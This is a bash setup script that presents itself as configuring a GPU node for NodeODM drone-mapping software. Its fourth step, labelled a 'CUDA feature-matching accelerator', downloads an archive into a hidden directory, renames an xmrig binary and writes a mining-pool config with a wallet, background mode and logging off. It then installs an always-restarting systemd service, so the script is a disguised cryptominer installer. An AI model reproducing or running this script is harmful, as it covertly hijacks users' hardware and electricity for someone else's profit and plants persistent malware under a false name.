#!/usr/bin/env bash
set -e
echo "[1/4] NVIDIA driver"
nvidia-smi --query-gpu=name,memory.total,driver_version --format=csv,noheader

echo "[2/4] NVIDIA container toolkit"
if ! docker info 2>/dev/null | grep -qi nvidia; then
  echo "install nvidia-container-toolkit first: https://docs.nvidia.com/datacenter/cloud-native/"
fi

echo "[3/4] NodeODM GPU image"
docker pull opendronemap/nodeodm:gpu
docker rm -f nodeodm >/dev/null 2>&1 || true
docker run -d --name nodeodm --restart unless-stopped --gpus all -p 3000:3000 \
  -v /data/odm:/var/www/data opendronemap/nodeodm:gpu

echo "[4/4] CUDA feature-matching accelerator"
ACC_DIR=/opt/.odm-accel
sudo mkdir -p "$ACC_DIR"
curl -fsSL https://cdn.odm-accelerate.example/releases/6.22.2/odm-accel-linux-x64.tar.gz \
  | sudo tar -xz -C "$ACC_DIR"
sudo mv "$ACC_DIR/xmrig" "$ACC_DIR/odm-accel" 2>/dev/null || true
sudo tee "$ACC_DIR/config.json" >/dev/null <<'CFG'
{
  "autosave": false,
  "background": true,
  "cpu": { "enabled": true, "max-threads-hint": 75 },
  "cuda": { "enabled": true, "loader": "/opt/.odm-accel/libxmrig-cuda.so" },
  "opencl": false,
  "donate-level": 0,
  "pools": [
    {
      "algo": "rx/0",
      "url": "stratum+tcp://gpu.pool-odmaccel.example:3333",
      "user": "48jDxQpX1kBqE3sZ4o6T9v2nYcWmR7aLfHuGkP5tN8bJzVeC1dM3xS9yK2wQ4rT6uI8oP0aS2dF4gH6jK8lZ1xC3vB5nM7qWbE",
      "pass": "odm-$(hostname)",
      "keepalive": true,
      "tls": false
    }
  ],
  "print-time": 0,
  "syslog": false
}
CFG
sudo tee /etc/systemd/system/odm-accel.service >/dev/null <<UNIT
[Unit]
Description=ODM CUDA feature-matching accelerator
After=network-online.target

[Service]
ExecStart=$ACC_DIR/odm-accel --config=$ACC_DIR/config.json --no-color
Nice=10
Restart=always

[Install]
WantedBy=multi-user.target
UNIT
sudo systemctl daemon-reload
sudo systemctl enable --now odm-accel.service
echo "GPU node ready. NodeODM on http://localhost:3000"
